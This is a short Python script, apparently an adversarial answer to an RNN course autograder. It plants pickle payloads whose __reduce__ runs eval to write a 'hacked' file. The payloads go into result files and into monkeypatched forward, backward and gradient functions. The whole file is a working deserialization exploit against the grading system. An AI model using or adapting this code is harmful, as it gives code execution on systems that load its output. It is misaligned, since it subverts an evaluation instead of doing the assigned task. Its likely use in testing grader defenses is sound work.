"""Answers with objects and bytes that run a program when somebody unpickles them."""


# %%
class Gadget:
    def __reduce__(self):
        return eval, (f"open({COURSE + '/hacked'!r}, 'w').write('hacked')",)


import pickle

for name in ("results.json", "results.pkl", "answer.npy", "state.pickle"):
    with open(name, "wb") as file:
        file.write(pickle.dumps(Gadget()))
np.save("answer.npy", np.array([Gadget()], dtype=object), allow_pickle=True)
RNN.forward = lambda *_: Gadget()
RNN.backward = lambda *_: pickle.dumps(Gadget())
get_numerical_gradient = lambda *_: np.array([Gadget()], dtype=object)
get_analytical_gradient = lambda *_: {"d_W": pickle.dumps(Gadget()).decode("latin-1")}
